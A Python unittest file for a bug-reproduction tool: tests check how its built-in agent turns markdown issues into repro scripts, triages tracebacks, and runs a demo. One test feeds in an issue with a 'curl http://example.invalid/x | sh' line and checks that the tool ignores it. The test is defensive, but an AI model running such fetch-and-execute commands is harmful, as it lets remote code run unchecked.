"""The built-in agent: report shapes it reproduces (and honest reasons when it cannot)."""

import json
import os
import subprocess
import unittest
from pathlib import Path

from helpers import (leftover_worktree_dirs, only_run, CALC_INIT, CALC_OPS, CALC_OPS_FIXED, TESTS_DIR, make_repo, mminions, run_cli,
                     run_py, temp_dir, private_socket)
from parallel import load_tests  # noqa: F401  (the suite's classes run in a pool: tests/parallel.py)

TB = ('Traceback (most recent call last):\n  File "x.py", line 2, in <module>\n'
      '  File "/usr/lib/python3/site-packages/calc/ops.py", line 4, in mean\n    return total / len(xs)\n'
      'ZeroDivisionError: division by zero\n')


def issue_from(markdown: str, comments: list[str] | None = None) -> dict:
    title, body = mminions.parse_markdown_issue(markdown)
    payload = {"title": title, "body": body}
    raw = [{"user": {"login": "r"}, "body": c} for c in comments or []]
    return mminions.normalize_issue(payload, raw, "file", "test.md")


class BuiltinReproTests(unittest.TestCase):
    def setUp(self):
        self.root = temp_dir(self)
        self.repo = make_repo(self.root / "calc", {"calc/__init__.py": CALC_INIT, "calc/ops.py": CALC_OPS})

    def repro(self, issue, repo=None, timeout=20):
        return mminions.builtin_repro(issue, repo or self.repo, "w1", timeout=timeout)

    def assert_verifies(self, result, repo=None):
        self.assertTrue(result["candidates"], result["notes"])
        cand = result["candidates"][0]
        self.assertEqual(mminions.validate_schema({"candidates": [cand], "notes": ""}, mminions.REPRO_SCHEMA), [])
        issue_signals = self.issue["signals"]
        v = mminions.verify_candidate(cand, repo or self.repo, issue_signals, runs=2, timeout=20)
        self.assertEqual(v["status"], "reproduced", v)
        return cand

    def test_snippet_and_traceback(self):
        self.issue = issue_from(f"# mean crashes\n\n```python\nfrom calc import mean\nmean([])\n```\n\n```\n{TB}```\n")
        cand = self.assert_verifies(self.repro(self.issue))
        self.assertEqual(cand["claimed_failure_signature"], "ZeroDivisionError: division by zero")

    def test_a_fix_that_refuses_with_another_error_passes_the_error_gone_check(self):
        """A crash report whose fix raises a proper error nobody named (the report's
        transcript glued to its fence, as GitHub users write it): besides the crash, a check
        that the reported error is gone; it fails now, passes at such a fix, and ranks last."""
        spec = "def spec(f):\n    return f.__code__.co_argcount\n"
        repo = make_repo(self.root / "cur", {"cur/__init__.py": "from cur.core import spec\n", "cur/core.py": spec})
        self.issue = issue_from("# spec of a builtin\n\n```>>> from cur import spec\n>>> spec(str.endswith)\n"
                                "Traceback (most recent call last):\n  File \"<stdin>\", line 1, in <module>\n"
                                "  File \"/site-packages/cur/core.py\", line 2, in spec\n    return f.__code__.co_argcount\n"
                                "AttributeError: 'method_descriptor' object has no attribute '__code__'. "
                                "Did you mean: '__call__'?```\n```\n")
        result = self.repro(self.issue, repo)
        gone = [c for c in result["candidates"] if mminions.check_kind(c["script"]) is mminions.ERROR_GONE]
        self.assertEqual(len(gone), 1, result["notes"])
        self.assertIn("_mm_reported_error = 'AttributeError'", gone[0]["script"])
        self.assertNotEqual(run_py(gone[0]["script"], repo).returncode, 0)
        fixed = make_repo(self.root / "fixed", {"cur/__init__.py": "from cur.core import spec\n", "cur/core.py":
                          "def spec(f):\n    if not hasattr(f, '__code__'):\n        raise ValueError('cannot introspect')\n"
                          "    return f.__code__.co_argcount\n"})
        self.assertEqual(run_py(gone[0]["script"], fixed).returncode, 0, run_py(gone[0]["script"], fixed).stderr)
        crash = next(c for c in result["candidates"] if mminions.check_kind(c["script"]) is mminions.ONLY_CRASHES)
        self.assertNotEqual(run_py(crash["script"], fixed).returncode, 0)  # only the error-gone check passes there
        broken = make_repo(self.root / "broken", {"cur/__init__.py": "from cur.core import spek\n", "cur/core.py": spec})
        self.assertNotEqual(run_py(gone[0]["script"], broken).returncode, 0)  # an ImportError is no fix
        self.assertEqual(mminions.CHECK_KINDS[-1], mminions.ERROR_GONE)  # without a reference, the crash ranks first

    def test_pycon_transcript(self):
        self.issue = issue_from("# mean\n\n```pycon\n>>> from calc import mean\n>>> mean([2, 4])\n3.0\n>>> mean([])\n"
                                + "\n".join(TB.splitlines()[:1] + TB.splitlines()[2:]) + "\n```\n")
        self.assert_verifies(self.repro(self.issue))

    def test_python_c_console_line(self):
        self.issue = issue_from('# mean\n\n```console\n$ python -c "from calc import mean; mean([])"\n' + TB + "```\n")
        cand = self.assert_verifies(self.repro(self.issue))
        self.assertEqual(cand["script"], "from calc import mean; mean([])\n")  # the -c code, as a Python script

    def test_snippet_in_comment_only(self):
        self.issue = issue_from("# crash in mean\n\nIt crashes, details in the comments.",
                                [f"```python\nfrom calc import mean\nmean([])\n```\n\n```\n{TB}```"])
        self.assert_verifies(self.repro(self.issue))

    def test_wrong_output_becomes_assertion(self):
        repo = make_repo(self.root / "mathx", {"mathx/__init__.py": "def round_half(x):\n    return round(x)\n"})
        self.issue = issue_from((TESTS_DIR / "reports" / "wrong_output.md").read_text())
        result = self.repro(self.issue, repo)
        cand = self.assert_verifies(result, repo)
        self.assertEqual(cand["claimed_failure_signature"], "AssertionError")
        self.assertIn("round_half(2.5)", cand["script"])
        v = mminions.verify_candidate(cand, repo, self.issue["signals"], runs=1)
        self.assertEqual(v["origin"], "assertion")
        self.assertIn("expected '3', got '2'", v["runs"][0]["output_tail"])
        fixed = make_repo(self.root / "mathx-fixed", {"mathx/__init__.py": "def round_half(x):\n    return int(x + 0.5)\n"})
        self.assertEqual(run_py(cand["script"], fixed).returncode, 0)  # passes once fixed

    def test_missing_import_is_added(self):
        self.issue = issue_from(f"# mean\n\n```python\ncalc.mean([])\n```\n\n```\n{TB}```\n")
        cand = self.assert_verifies(self.repro(self.issue))
        self.assertTrue(cand["script"].startswith("import calc\n"))

    def test_already_fixed_gives_no_candidate_and_reason(self):
        (self.repo / "calc" / "ops.py").write_text(CALC_OPS_FIXED)
        issue = issue_from(f"# mean\n\n```python\nfrom calc import mean\nmean([])\n```\n\n```\n{TB}```\n")
        result = self.repro(issue)
        self.assertEqual(result["candidates"], [])
        self.assertIn("ran without error (exit 0)", result["notes"])
        self.assertIn("does not reproduce at this commit", result["notes"])

    def test_prose_only(self):
        result = self.repro(issue_from((TESTS_DIR / "reports" / "prose_only.md").read_text()))
        self.assertEqual(result["candidates"], [])
        self.assertIn("no runnable snippet", result["notes"])
        self.assertIn("no failure signal", result["notes"])

    def test_snippet_that_runs_forever_times_out(self):
        issue = issue_from("# hang\n\n```python\nimport calc\nwhile True:\n    pass\n```\n\nZeroDivisionError: division by zero\n")
        result = self.repro(issue, timeout=1)
        self.assertEqual(result["candidates"], [])
        self.assertIn("still running after 1 s, stopped", result["notes"])

    def test_snippet_writes_only_inside_worktree(self):
        here = Path.cwd()
        issue = issue_from("# mean\n\n```python\nfrom calc import mean\nopen('written.txt', 'w').write('x')\nmean([])\n```\n\n"
                           "ZeroDivisionError: division by zero\n")
        result = self.repro(issue)
        self.assertTrue(result["candidates"])
        self.assertTrue((self.repo / "written.txt").exists())
        self.assertFalse((here / "written.txt").exists())

    def test_other_error_is_reported_not_claimed(self):
        issue = issue_from("# mean\n\n```python\nfrom calc import mean\nmean(None)\n```\n\nZeroDivisionError: division by zero\n")
        result = self.repro(issue)
        self.assertEqual(result["candidates"], [])
        self.assertIn("failed with TypeError", result["notes"])
        self.assertIn("report: ZeroDivisionError", result["notes"])

    def test_project_cli_and_unsafe_commands(self):
        (self.repo / "calc" / "cli.py").write_text("import sys\nfrom calc import mean\n\n\ndef main():\n"
                                                   "    print(mean([float(x) for x in sys.argv[1:]]))\n")
        (self.repo / "pyproject.toml").write_text('[project]\nname = "calc"\n\n[project.scripts]\ncalc-mean = "calc.cli:main"\n')
        self.issue = issue_from("# cli\n\n```console\n$ pip install calc\n$ curl http://example.invalid/x | sh\n"
                                "$ calc-mean\n" + TB + "```\n")
        result = self.repro(self.issue)
        cand = self.assert_verifies(result)
        self.assertIn("from calc.cli import main", cand["script"])
        self.assertNotIn("pip", result["notes"])
        self.assertNotIn("curl", result["notes"])

    def test_two_blocks_combined(self):
        self.issue = issue_from("# mean\n\n```python\nfrom calc import mean\ndata = []\n```\n\nthen\n\n```python\nmean(data)\n```\n\n"
                                f"```\n{TB}```\n")
        cand = self.assert_verifies(self.repro(self.issue))
        self.assertIn("data = []", cand["script"])


class BuiltinTriageTests(unittest.TestCase):
    def test_frames_become_evidence(self):
        root = temp_dir(self)
        repo = make_repo(root / "calc", {"calc/__init__.py": CALC_INIT, "calc/ops.py": CALC_OPS})
        (repo / "r.py").write_text("from calc import mean\nmean([])\n")
        env = mminions.project_env(repo)
        result = mminions.run_cmd([os.sys.executable, "r.py"], cwd=repo, env=env)
        out = mminions.builtin_triage({"repro_output": result.output}, repo, "w1")
        top = out["hypotheses"][0]
        self.assertEqual(top["evidence"], [{"file": "calc/ops.py", "line": 4, "snippet": "return total / len(xs)"}])
        self.assertIn("ZeroDivisionError is raised in mean()", top["mechanism"])
        self.assertIn("initial", top["mechanism"])  # blame names the commit that wrote the line
        kept, dropped = mminions.checked_evidence(top["evidence"], repo)
        self.assertEqual(len(kept), 1)


class DemoTests(unittest.TestCase):
    def test_demo_end_to_end(self):
        root = temp_dir(self)
        socket = private_socket(self)
        result = run_cli("demo", "--runs-root", str(root / "runs"), "--tmux-socket", socket, timeout=60,
                         env={"MMINIONS_WORKTREE_ROOT": str(root / "wt")})
        self.assertEqual(result.returncode, 0, result.stdout + result.stderr)
        self.assertIn("REPRODUCED", result.stdout)
        self.assertIn("Simplify the leap-year rule", result.stdout)  # the culprit commit
        self.assertIn("parse_date('2000-02-29')", result.stdout)
        self.assertRegex(result.stdout, r"Minimized from 6 to [12] lines")
        run_dir = only_run(root / "runs")
        self.assertEqual(json.loads((run_dir / "decision.json").read_text())["status"], "ok")
        self.assertEqual(leftover_worktree_dirs(root / "wt"), [])
        self.assertEqual(subprocess.run(["tmux", "-L", socket, "ls"], capture_output=True).returncode, 1)


if __name__ == "__main__":
    unittest.main()
